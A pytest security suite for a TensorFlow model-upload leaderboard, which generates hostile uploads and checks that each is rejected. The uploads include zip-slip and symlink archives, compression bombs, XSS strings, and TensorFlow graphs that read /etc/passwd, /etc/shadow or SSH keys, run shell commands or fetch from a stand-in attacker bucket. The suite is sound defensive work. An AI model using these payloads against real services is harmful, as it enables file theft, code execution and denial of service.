"""A hostile-input corpus, every case through the real product path.

Each case is generated here (no fixture files), uploaded the way a user would (HTTP POST
to /api/networks, the upload form, or the upload service), then run through the real
pipeline in-process on the session's `mini` benchmark (engine work in real sandboxed
children). Each must end `rejected` (or `failed`) with a reason that names the problem,
or be refused at the door with a 4xx and a message; never an HTTP 500, never a file
outside the media folder, and afterwards the same process still ranks a good model.

Payloads aim at a unique `<uuid>-pwned` name: as absolute paths (/tmp, a canary
folder), as `../` escapes from the extraction folder, through links, and as the target
of file-writing TensorFlow ops. After each case none of those paths may exist and the
canary folder must be unchanged.

Notes on the "network and process op" cases: core TensorFlow has no socket or
subprocess op. The ways a graph reaches the network are its file-system ops on remote
schemes (ReadFile/WriteFile/MatchingFiles on gs://, s3://, http paths), DecodeProto with
a `file://` descriptor source, and PrintV2's `file://` output stream; code execution is
PyFunc/EagerPyFunc (tf.py_function). All of them are covered below.
"""

from __future__ import annotations

import functools
import gzip
import io
import os
import re
import shutil
import stat
import sys
import tarfile
import uuid
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape

from evaluator.models import Evaluation, Job
from evaluator.services import storage
from evaluator.services.pipeline import network_run_pipeline
from leaderboard import services
from leaderboard.models import Network
from leaderboard.services import token_create

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

S = Network.Status
EVIL = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'


# --------------------------------------------------------------------------- context


@dataclass
class Ctx:
    tmp: Path
    pwn: str  # the file name every payload tries to create somewhere it must not
    canary: Path  # a folder outside the media root that payloads aim at
    tiny_cnn_dir: Path

    @property
    def tmp_target(self) -> str:
        return f"/tmp/{self.pwn}"

    @property
    def canary_target(self) -> str:
        return str(self.canary / self.pwn)


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _must_not_exist(ctx: Ctx, network_pk: int | None) -> list[Path]:
    """Every place a hostile payload could have put its file."""
    places = [Path("/tmp"), Path("/"), ctx.canary, ctx.tmp, Path.cwd(), Path(django_settings.VAR_DIR)]
    if network_pk is not None:
        # Each ancestor of the extraction folder: where `../` escapes would land.
        places += list((storage.media_path(f"networks/{network_pk}") / "model" / "a").parents)
    return [place / ctx.pwn for place in places]


# --------------------------------------------------------------------------- archive builders


def zip_bytes(members: list[tuple[str | zipfile.ZipInfo, bytes]], *, level: int | None = None) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names warn
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
            for name, data in members:
                zf.writestr(name, data)
    return buf.getvalue()


def targz_bytes(members: list[tuple[tarfile.TarInfo, bytes | None]], *, fmt: int = tarfile.GNU_FORMAT,
                compress: bool = True) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if compress else "w", format=fmt) as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def tar_file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def tar_special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    if kind == tarfile.CHRTYPE:
        info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
    return info, None


# A fake model after the hostile member: if the hostile member were skipped instead of
# refused, the reason would be about this model instead, and the words would not match.
FAKE_MODEL = [("model/saved_model.pb", b"\x08\x01"), ("model/variables/variables.index", b"")]


def zip_folder(folder: Path, prefix: str = "model") -> bytes:
    return zip_bytes([(f"{prefix}/{p.relative_to(folder).as_posix()}", p.read_bytes())
                      for p in sorted(folder.rglob("*")) if p.is_file()])


def targz_folder(folder: Path, prefix: str = "model") -> bytes:
    return targz_bytes([tar_file(f"{prefix}/{p.relative_to(folder).as_posix()}", p.read_bytes())
                        for p in sorted(folder.rglob("*")) if p.is_file()])



@functools.cache
def zip_bomb() -> bytes:
    """300 MB of zeros deflated to ~300 KB (ratio ~1000:1); built once, in ~2 s."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("model/saved_model.pb", b"\x08\x01")
        with zf.open("model/variables/variables.data-00000-of-00001", "w", force_zip64=True) as fh:
            block = bytes(1 << 20)
            for _ in range(300):
                fh.write(block)
    return buf.getvalue()


@functools.cache
def targz_bomb() -> bytes:
    """A tar.gz holding 100 MB of zeros (the tar header declares the true size)."""

    class Zeros(io.RawIOBase):
        def __init__(self, n: int) -> None:
            self.left = n

        def readable(self) -> bool:
            return True

        def readinto(self, b) -> int:
            n = min(len(b), self.left)
            b[:n] = bytes(n)
            self.left -= n
            return n

    size = 100 << 20
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", compresslevel=9) as tf:
        info = tarfile.TarInfo("model/variables/variables.data-00000-of-00001")
        info.size = size
        tf.addfile(info, io.BufferedReader(Zeros(size)))
    return buf.getvalue()


def _symlink_zip_member(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix, so the mode bits count
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _encrypted_zip() -> bytes:
    """A zip whose member claims to be encrypted (zipfile clears the flag when writing,
    so it is set afterwards in the local header and the central directory)."""
    data = bytearray(zip_bytes([("model/saved_model.pb", b"\x08\x01" * 100)]))
    local, central = data.index(b"PK\x03\x04"), data.index(b"PK\x01\x02")
    data[local + 6] |= 0x1
    data[central + 8] |= 0x1
    return bytes(data)


def _pax_bomb() -> bytes:
    info, data = tar_file("model/saved_model.pb", b"\x08\x01")
    info.pax_headers = {"comment": "x" * (2 << 20)}
    return targz_bytes([(info, data)], fmt=tarfile.PAX_FORMAT)


def _head(path: Path, size: int = 4096) -> bytes:
    with open(path, "rb") as fh:
        return fh.read(size)


def _has(word: str | tuple[str, ...], text: str) -> bool:
    """word (or any of a tuple of words) in text, raw or HTML-escaped."""
    words = word if isinstance(word, tuple) else (word,)
    return any(w in text or escape(w) in text for w in words)


def _truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


# --------------------------------------------------------------------------- model builders
# Every hostile op sits in a tf.function that is only traced for the export, never run:
# the export itself touches nothing, so a file found later was written by the service.


def _tf():
    import tensorflow as tf

    return tf


def _image_spec(dtype: Any = None, shape: tuple = (None, 28, 28, 1)):
    tf = _tf()
    return tf.TensorSpec(list(shape), dtype or tf.float32)


def _logits(x, classes: int = 10):
    tf = _tf()
    return tf.reshape(tf.reduce_mean(tf.cast(x, tf.float32), axis=[1, 2, 3]), [-1, 1]) * tf.ones([1, classes])


def export_module(path: Path, body: Callable, specs: list | None = None,
                  extra_methods: dict[str, Callable] | None = None) -> Path:
    """A tf.Module whose serving signature returns body(*inputs)."""
    tf = _tf()
    specs = specs or [_image_spec()]

    class Net(tf.Module):
        pass

    net = Net()
    net.w = tf.Variable(tf.zeros([10]))
    serve = tf.function(lambda *xs: body(*xs), input_signature=specs)
    net.serve = serve
    for name, fn in (extra_methods or {}).items():
        setattr(net, name, tf.function(fn, input_signature=[_image_spec()]))
    concrete = serve.get_concrete_function()
    tf.saved_model.save(net, str(path), signatures={"serving_default": concrete})
    return path


def _out(x):
    return {"logits": _logits(x)}


def m_read_file(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
        tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)})


def m_write_file(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        tf.io.write_file(ctx.tmp_target, "pwned")
        return _out(x)

    return export_module(ctx.tmp / "m", body)


def m_write_in_while_body(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        def step(i, acc):
            tf.io.write_file(ctx.canary_target, "pwned")
            return i + 1, acc

        _, y = tf.while_loop(lambda i, _: i < 2, step, [0, x])
        return _out(y)

    return export_module(ctx.tmp / "m", body)


def m_read_in_cond_branch(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        leak = lambda: x + tf.cast(tf.strings.length(tf.io.read_file("/etc/shadow")), tf.float32)  # noqa: E731
        return _out(tf.cond(tf.reduce_mean(x) > 2.0, leak, lambda: x))

    return export_module(ctx.tmp / "m", body)


def m_write_in_nested_function(ctx: Ctx) -> Path:
    tf = _tf()

    @tf.function
    def inner(t):
        tf.io.write_file(ctx.tmp_target, "pwned")
        return t

    return export_module(ctx.tmp / "m", lambda x: _out(inner(x)))


def m_write_in_unused_method(ctx: Ctx) -> Path:
    """The signature is clean; another saved method (callable after loading) is not."""
    tf = _tf()

    def evil(x):
        tf.io.write_file(ctx.tmp_target, "pwned")
        return x

    return export_module(ctx.tmp / "m", _out, extra_methods={"evil": evil})


def m_matching_files(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
        tf.size(tf.io.matching_files("/home/*/.ssh/*")), tf.float32)})


def m_py_function(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        y = tf.py_function(lambda t: (os.system(f"touch {ctx.tmp_target}"), t)[1], [x], tf.float32)
        y.set_shape(x.shape)
        return _out(y)

    return export_module(ctx.tmp / "m", body)


def m_print_to_file(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        tf.print("pwned", output_stream=f"file://{ctx.canary_target}")
        return _out(x)

    return export_module(ctx.tmp / "m", body)


def m_decode_proto_file_descriptor(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        _, values = tf.io.decode_proto(tf.constant([b""]), "tensorflow.TensorShapeProto", ["unknown_rank"],
                                       [tf.bool], descriptor_source="file:///etc/passwd")
        return {"logits": _logits(x) + tf.cast(tf.size(values[0]), tf.float32)}

    return export_module(ctx.tmp / "m", body)


def m_remote_filesystem(ctx: Ctx) -> Path:
    """Reaching the network through TF's file systems (GCS is built in)."""
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
        tf.strings.length(tf.io.read_file("gs://attacker-bucket/exfiltrate")), tf.float32)})


def m_nan(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.math.log(-1.0 - tf.reduce_mean(x))})


def m_wrong_shape(ctx: Ctx) -> Path:
    import keras

    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(10)])
    model.export(str(ctx.tmp / "m"), verbose=False)
    return ctx.tmp / "m"


def m_int_input(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", _out, specs=[_image_spec(tf.int32)])


def m_five_classes(ctx: Ctx) -> Path:
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x, classes=5)})


def m_two_inputs(ctx: Ctx) -> Path:
    return export_module(ctx.tmp / "m", lambda x, y: {"logits": _logits(x + y)},
                         specs=[_image_spec(), _image_spec()])


def m_two_outputs(ctx: Ctx) -> Path:
    return export_module(ctx.tmp / "m", lambda x: {"a": _logits(x), "b": _logits(x)})


def m_rank3_output(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": tf.reshape(_logits(x), [-1, 10, 1])})


def m_no_signatures(ctx: Ctx) -> Path:
    tf = _tf()
    module = tf.Module()
    module.v = tf.Variable(1.0)
    tf.saved_model.save(module, str(ctx.tmp / "m"))
    return ctx.tmp / "m"


def m_fails_at_inference(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        with tf.control_dependencies([tf.debugging.assert_less(tf.reduce_min(x), -1.0, message="refuse to run")]):
            return _out(tf.identity(x))

    return export_module(ctx.tmp / "m", body)


def m_missing_variables(ctx: Ctx) -> Path:
    path = export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x)})
    shutil.rmtree(path / "variables")
    return path


def m_garbage_graph(ctx: Ctx) -> Path:
    path = ctx.tmp / "m"
    path.mkdir()
    (path / "saved_model.pb").write_bytes(b"\xff\xfe not a protobuf " * 64)
    return path


def m_memory_hog(ctx: Ctx) -> Path:
    """3 GiB of float32 sized at run time from the input, so nothing folds it away."""
    tf = _tf()

    def body(x):
        n = 768 + tf.cast(tf.reduce_min(x), tf.int32)
        big = tf.fill(tf.stack([n, 1024, 1024]), 1.0)
        return {"logits": _logits(x) + tf.reduce_mean(big) * 1e-6}

    return export_module(ctx.tmp / "m", body)


def m_infinite_loop(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        always = tf.reduce_min(x) > -1.0  # true for every image, known only at run time
        count = tf.while_loop(lambda i: always, lambda i: i + 1.0, [tf.constant(0.0)])[0]
        return {"logits": _logits(x) + count * 0.0}

    return export_module(ctx.tmp / "m", body)


def model_zip(builder: Callable[[Ctx], Path]) -> Callable[[Ctx], bytes]:
    return lambda ctx: zip_folder(builder(ctx))


# --------------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[Ctx], bytes]
    # Every entry must be in the reason (or the HTTP error); a tuple entry: any one of it.
    words: tuple[str | tuple[str, ...], ...]
    via: str = "api"  # api | form | service
    filename: str = "model.zip"
    refused: int | None = None  # refused at the door with this HTTP status: no network row
    settings: dict[str, Any] = field(default_factory=dict)
    status: str = S.REJECTED


CASES = [
    # --- archives: refused by the extractor, before TensorFlow is imported
    Case("zip-slip", lambda c: zip_bytes([(f"model/../../../../../{c.pwn}", b"pwned"), *FAKE_MODEL]),
         ("escapes the archive folder",)),
    Case("zip-absolute-path", lambda c: zip_bytes([(c.tmp_target, b"pwned"), *FAKE_MODEL]),
         ("absolute path",)),
    Case("zip-backslash-traversal", lambda c: zip_bytes([(f"..\\..\\..\\{c.pwn}", b"pwned"), *FAKE_MODEL]),
         ("backslashes",)),
    Case("zip-drive-letter", lambda c: zip_bytes([(f"C:/Windows/{c.pwn}", b"pwned"), *FAKE_MODEL]),
         ("absolute path",)),
    Case("zip-symlink", lambda c: zip_bytes([(_symlink_zip_member("model/link", str(c.canary)), str(c.canary).encode()),
                                             (f"model/link/{c.pwn}", b"pwned"), *FAKE_MODEL]),
         ("symbolic link", "links are not allowed")),
    Case("zip-encrypted", lambda c: _encrypted_zip(),
         ("encrypted",)),
    Case("zip-duplicate-member", lambda c: zip_bytes([*FAKE_MODEL, ("model/saved_model.pb", b"\x08\x02")]),
         ("appears more than once",), via="service"),
    Case("zip-bomb-300MB", lambda c: zip_bomb(), ("expands more than 200 times",)),
    Case("zip-too-many-members", lambda c: zip_bytes([(f"model/f{i}", b"") for i in range(2001)]),
         ("more than 2000 members",)),
    Case("zip-long-member-name", lambda c: zip_bytes([("model/" + "a/" * 600 + "x", b"x")]),
         ("over 1024 bytes",)),
    Case("zip-truncated", lambda c: _truncated(zip_folder(c.tiny_cnn_dir)), ("truncated or corrupt",)),
    Case("zip-nested-archive", lambda c: zip_bytes([("upload/model.zip", zip_folder(c.tiny_cnn_dir))]),
         ("no saved_model.pb", "nested archives are not unpacked")),
    Case("zip-empty", lambda c: b"PK\x05\x06" + bytes(18), ("no saved_model.pb",)),
    Case("zip-pbtxt-only", lambda c: zip_bytes([("model/saved_model.pbtxt", b"meta_graphs {}")]),
         ("only a binary saved_model.pb is accepted",)),
    Case("zip-two-models", lambda c: zip_bytes([("a/saved_model.pb", b"\x08\x01"), ("b/saved_model.pb", b"\x08\x01")]),
         ("several SavedModels",)),
    Case("zip-html-in-member-name",
         lambda c: zip_bytes([('<script>alert("x")</script>/../../' + c.pwn, b"pwned"), *FAKE_MODEL]),
         ("escapes the archive folder",), via="form"),
    Case("tar-absolute-path", lambda c: targz_bytes([tar_file(c.canary_target, b"pwned")]),
         ("absolute path",), filename="model.tar.gz"),
    Case("tar-traversal", lambda c: targz_bytes([tar_file(f"model/../../../../{c.pwn}", b"pwned")]),
         ("escapes the archive folder",), filename="model.tar.gz"),
    Case("tar-symlink", lambda c: targz_bytes([tar_special("model/link", tarfile.SYMTYPE, str(c.canary)),
                                               tar_file(f"model/link/{c.pwn}", b"pwned")]),
         ("symbolic link", "links are not allowed"), filename="model.tgz"),
    Case("tar-hardlink", lambda c: targz_bytes([tar_special("model/saved_model.pb", tarfile.LNKTYPE, "/etc/passwd")]),
         ("hard link",), filename="model.tar.gz"),
    Case("tar-char-device", lambda c: targz_bytes([tar_special("model/null", tarfile.CHRTYPE)]),
         ("device, fifo or other special file",), filename="model.tar.gz", via="form"),
    Case("tar-fifo", lambda c: targz_bytes([tar_special("model/fifo", tarfile.FIFOTYPE)]),
         ("device, fifo or other special file",), filename="model.tar.gz", via="service"),
    Case("tar-oversized-pax-header", lambda c: _pax_bomb(), ("oversized tar metadata header",),
         filename="model.tar.gz"),
    Case("targz-bomb-100MB", lambda c: targz_bomb(), ("compression bomb",), filename="model.tar.gz"),
    Case("targz-truncated", lambda c: _truncated(targz_folder(c.tiny_cnn_dir)), ("truncated or corrupt",),
         filename="model.tgz"),
    Case("gzip-but-not-tar", lambda c: gzip.compress(b"hello world " * 100), ("truncated or corrupt",),
         filename="model.tar.gz"),
    Case("targz-empty", lambda c: targz_bytes([]), ("no saved_model.pb",), filename="model.tar.gz"),
    # --- refused at the door: nothing stored, no pipeline
    Case("wrong-magic-png", lambda c: b"\x89PNG\r\n\x1a\n" + bytes(200), ("not a .zip or .tar.gz archive",),
         refused=400),
    Case("wrong-magic-elf", lambda c: _head(Path(sys.executable).resolve()),
         ("not a .zip or .tar.gz archive",), refused=400, via="form"),
    Case("uncompressed-tar", lambda c: targz_bytes(_fake_model_tar(), compress=False),
         ("not a .zip or .tar.gz archive",), refused=400, filename="model.tar"),
    Case("zip-named-exe", lambda c: zip_bytes(FAKE_MODEL), ("not a .zip, .tar.gz or .tgz",), refused=400,
         filename="model.exe"),
    Case("zip-named-tar-gz", lambda c: zip_bytes(FAKE_MODEL), ("first bytes say it is a .zip",), refused=400,
         filename="model.tar.gz", via="form"),
    Case("empty-file", lambda c: b"", ("not a .zip or .tar.gz archive",), refused=400),
    # --- malicious models: refused by the op scan, before anything loads them
    Case("op-read-file", model_zip(m_read_file), ("disallowed TensorFlow op", "ReadFile"), via="form"),
    Case("op-write-file", model_zip(m_write_file), ("WriteFile",), via="form"),
    Case("op-write-file-in-while-body", model_zip(m_write_in_while_body), ("WriteFile", "while_body"), via="form"),
    Case("op-read-file-in-cond-branch", model_zip(m_read_in_cond_branch), ("ReadFile", "cond_true"), via="form"),
    Case("op-write-file-in-nested-function", model_zip(m_write_in_nested_function), ("WriteFile", "inner"),
         via="form"),
    Case("op-write-file-in-unused-method", model_zip(m_write_in_unused_method), ("WriteFile", "evil"), via="form"),
    Case("op-matching-files", model_zip(m_matching_files), ("MatchingFiles",), via="form"),
    Case("op-py-function", model_zip(m_py_function), ("EagerPyFunc",), via="form"),
    Case("op-print-to-file", model_zip(m_print_to_file), ("PrintV2",), via="form"),
    Case("op-decode-proto-file-descriptor", model_zip(m_decode_proto_file_descriptor), ("DecodeProtoV2",),
         via="api"),
    Case("op-remote-filesystem-gs", model_zip(m_remote_filesystem), ("ReadFile",), via="api"),
    # --- broken models: refused by the loader's contract checks
    Case("garbage-saved-model-pb", model_zip(m_garbage_graph), ("not a valid SavedModel protobuf",)),
    Case("missing-variables", model_zip(m_missing_variables), ("could not be loaded",), via="form"),
    Case("no-signatures", model_zip(m_no_signatures), ("no signatures",), via="form"),
    Case("wrong-input-shape", model_zip(m_wrong_shape), ("input shape (None, 32, 32, 3)", "(28, 28, 1)"),
         via="form"),
    Case("int-input-dtype", model_zip(m_int_input), ("input dtype int32", "float32"), via="form"),
    Case("five-class-output", model_zip(m_five_classes), ("output has 5 classes", "10"), via="form"),
    Case("two-inputs", model_zip(m_two_inputs), ("takes 2 inputs",), via="form"),
    Case("two-outputs", model_zip(m_two_outputs), ("2 outputs",), via="form"),
    Case("rank-3-output", model_zip(m_rank3_output), ("not [batch, classes]",), via="form"),
    Case("nan-outputs", model_zip(m_nan), ("NaN or Inf",), via="form"),
    Case("fails-at-inference", model_zip(m_fails_at_inference), ("fails on the probe images",), via="form"),
    # --- resource exhaustion: stopped by the sandbox, with low limits for speed
    # The sandbox's RSS ceiling kills it, or TensorFlow's allocator refuses first (OOM).
    Case("memory-hog-3GiB", model_zip(m_memory_hog), (("memory ceiling", "OOM"),), via="form",
         settings={"SANDBOX_MEMORY_MB": 1500}),
    Case("infinite-loop", model_zip(m_infinite_loop), ("ran longer than 20 s",), via="form",
         settings={"SANDBOX_TIMEOUT_S": 20}),
]


def _fake_model_tar() -> list[tuple[tarfile.TarInfo, bytes]]:
    return [tar_file(name, data) for name, data in FAKE_MODEL]


def test_corpus_is_big_and_unique() -> None:
    assert len(CASES) >= 30
    assert len({c.id for c in CASES}) == len(CASES)


# --------------------------------------------------------------------------- running a case


@pytest.fixture
def ctx(tmp_path, tiny_cnn_dir) -> Ctx:
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("do not touch")
    work = tmp_path / "work"
    work.mkdir()
    return Ctx(tmp=work, pwn=f"rl-{uuid.uuid4().hex[:12]}-pwned", canary=canary, tiny_cnn_dir=tiny_cnn_dir)


@pytest.fixture
def uploader(django_user_model, settings) -> User:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    return django_user_model.objects.create_user(f"mallory-{uuid.uuid4().hex[:6]}", password="pw-mallory-1")


def upload(client, user: User, *, via: str, data: bytes, filename: str, name: str,
           description: str = "", bench_name: str = "mini") -> tuple[int, str, int | None]:
    """(HTTP status, error text, network id) of one upload through the chosen path."""
    if via == "service":
        from leaderboard.models import Benchmark

        try:
            net = services.network_upload(benchmark=Benchmark.objects.get(name=bench_name), owner=user, name=name,
                                          description=description, archive=io.BytesIO(data), filename=filename,
                                          enqueue=False)
        except services.UploadError as exc:
            return 400, str(exc), None
        return 202, "", net.pk
    if via == "api":
        response = client.post("/api/networks", {
            "file": SimpleUploadedFile(filename, data), "name": name, "description": description,
            "benchmark": bench_name,
        }, HTTP_AUTHORIZATION=f"Token {token_create(user=user).key}")
        assert response["Content-Type"] == "application/json"
        body = response.json()
        return response.status_code, body.get("error", ""), body.get("id")
    client.force_login(user)
    response = client.post("/networks/upload/", {
        "name": name, "description": description, "archive": SimpleUploadedFile(filename, data),
        "public": "on", "benchmark": bench_name,
    })
    if response.status_code == 302:
        match = re.fullmatch(r"/networks/(\d+)/", response["Location"])
        assert match, response["Location"]
        return 202, "", int(match.group(1))
    html = response.content.decode()
    errors = " ".join(re.findall(r'class="error[^"]*"[^>]*>(.*?)<', html, flags=re.S))
    return response.status_code, errors or html, None


def assert_nothing_escaped(ctx: Ctx, network_pk: int | None, canary_before: dict[str, bytes]) -> None:
    leaked = [p for p in _must_not_exist(ctx, network_pk) if os.path.lexists(p)]
    assert not leaked, f"hostile upload wrote outside the media folder: {leaked}"
    assert _snapshot(ctx.canary) == canary_before


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_upload_is_refused_with_a_reason(case: Case, ctx, uploader, client, settings,
                                                 mini_benchmark) -> None:
    for key, value in case.settings.items():
        setattr(settings, key, value)
    canary_before = _snapshot(ctx.canary)
    data = case.build(ctx)
    status, error, pk = upload(client, uploader, via=case.via, data=data, filename=case.filename,
                               name=f"hostile {case.id}")
    if case.refused is not None:
        assert status == (200 if case.via == "form" else case.refused), (status, error)  # the form re-renders
        for word in case.words:
            assert _has(word, error), (word, error)
        assert pk is None and not Network.objects.filter(owner=uploader).exists()
        assert_nothing_escaped(ctx, None, canary_before)
        return
    assert status == 202 and pk is not None, (status, error)
    net = Network.objects.get(pk=pk)
    assert net.archive in (f"networks/{pk}/upload.zip", f"networks/{pk}/upload.tar.gz")

    assert network_run_pipeline(network=net) is False
    net.refresh_from_db()
    assert net.status == case.status, (net.status, net.reason)
    print(f"{case.id}: {net.reason}")  # the corpus's reasons, for `pytest -s`
    for word in case.words:
        assert _has(word, net.reason), (word, net.reason)
    assert "Traceback" not in net.reason and len(net.reason) < 2000
    # Nothing half-done is left: no results, no extracted model, no running job.
    assert not Evaluation.objects.filter(network=net).exists()
    assert not storage.media_path(f"networks/{pk}/model").exists()
    assert not Job.objects.filter(network=net, state__in=[Job.State.QUEUED, Job.State.RUNNING]).exists()
    if case.status == S.REJECTED:  # the upload's own fault: never retried
        assert list(Job.objects.filter(network=net).values_list("attempts", flat=True)) == [1]
    assert_nothing_escaped(ctx, pk, canary_before)
    # The owner sees the reason, escaped, on the page and in the API; nobody gets a 500.
    client.force_login(uploader)
    page = client.get(f"/networks/{pk}/")
    assert page.status_code == 200
    html = page.content.decode()
    assert escape(net.reason) in html
    assert "<script>alert" not in html
    api = client.get(f"/api/networks/{pk}")
    assert api.status_code == 200 and api.json()["reason"] == net.reason
    assert client.get("/accounts/profile/").status_code == 200


# --------------------------------------------------------------------------- hostile form fields


@pytest.mark.parametrize("via", ["api", "form", "service"])
@pytest.mark.parametrize(
    "name, description, words",
    [
        ("n" * 10_000, "", "100 characters"),
        ("", "", "required"),
        ("   ", "", "required"),
        ("ok", "d" * 6000, "5000 characters"),
        ("nul\x00byte", "", ("NUL character", "Null characters")),
    ],
    ids=["huge-name", "empty-name", "blank-name", "huge-description", "nul-in-name"],
)
def test_hostile_form_fields_are_refused(client, uploader, mini_benchmark, via, name, description, words) -> None:
    status, error, pk = upload(client, uploader, via=via, data=zip_bytes(FAKE_MODEL), filename="m.zip",
                               name=name, description=description)
    assert status in (200, 400), status  # the form re-renders (200) with the error; the API says 400
    assert _has(words, error), error
    assert pk is None and not Network.objects.filter(owner=uploader).exists()


@pytest.mark.parametrize("via", ["api", "form"])
def test_script_in_name_and_description_is_stored_but_escaped(client, uploader, mini_benchmark, via) -> None:
    status, _, pk = upload(client, uploader, via=via, data=zip_bytes([("model/readme.txt", b"no model")]),
                           filename="m.zip", name=EVIL[:100], description=EVIL * 3)
    assert status == 202
    net = Network.objects.get(pk=pk)
    assert net.name == EVIL[:100] and net.description == EVIL * 3  # stored as typed
    assert network_run_pipeline(network=net) is False
    net.refresh_from_db()
    assert net.status == S.REJECTED and "no saved_model.pb" in net.reason
    client.force_login(uploader)  # the owner sees a rejected network in these lists
    for url in ("/?benchmark=mini", f"/networks/{pk}/", "/accounts/profile/", f"/networks/{pk}/delete/"):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, url
        assert "&lt;script&gt;alert" in html, url
    svg = client.get(f"/networks/{pk}/badge.svg").content.decode()
    assert "<script" not in svg


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini",
                                  "networks/1/upload.zip", "%2e%2e%2fetc"])
def test_path_like_names_never_reach_the_file_system(client, uploader, mini_benchmark, ctx, name) -> None:
    canary_before = _snapshot(ctx.canary)
    status, _, pk = upload(client, uploader, via="api", data=zip_bytes([("model/readme.txt", b"x")]),
                           filename=f"../../../../tmp/{ctx.pwn}.zip", name=name)
    assert status == 202
    net = Network.objects.get(pk=pk)
    assert net.name == name
    assert net.archive == f"networks/{pk}/upload.zip"  # server-generated, whatever the client said
    assert not Path(f"/tmp/{ctx.pwn}.zip").exists()
    assert network_run_pipeline(network=net) is False
    net.refresh_from_db()
    assert net.status == S.REJECTED
    assert_nothing_escaped(ctx, pk, canary_before)
    assert Path("/etc/passwd").read_text().startswith("root:")


# --------------------------------------------------------------------------- the next job


def _sandbox_children() -> list[int]:
    """Live (non-zombie) sandbox children of this process."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat_line = (entry / "stat").read_text()
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        fields = stat_line.rsplit(")", 1)[1].split()
        if int(fields[1]) == os.getpid() and fields[0] not in ("Z", "X") and b"sandbox_child" in cmdline:
            found.append(int(entry.name))
    return found


def test_after_the_corpus_the_worker_still_ranks_a_good_model(client, uploader, mini_benchmark, tiny_cnn_dir) -> None:
    """Runs last in this file: the same process that just went through every hostile case
    (memory blow-up and endless loop included) ranks the next upload normally, and the
    hostile name it carries is escaped on every public page."""
    assert _sandbox_children() == []
    status, error, pk = upload(client, uploader, via="api", data=zip_folder(tiny_cnn_dir), filename="good.zip",
                               name=EVIL[:100], description=EVIL)
    assert status == 202, error
    net = Network.objects.get(pk=pk)
    assert network_run_pipeline(network=net) is True
    net.refresh_from_db()
    assert net.status == S.RANKED and net.level is not None and net.reason == ""
    assert _sandbox_children() == []
    client.logout()
    for url in ("/?benchmark=mini", f"/networks/{pk}/", "/matrix/?benchmark=mini", "/benchmark/?benchmark=mini"):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, url
    assert pk in {row["id"] for row in client.get("/api/leaderboard?benchmark=mini").json()["networks"]}
    svg = client.get(f"/networks/{pk}/badge.svg").content.decode()
    assert "<script" not in svg
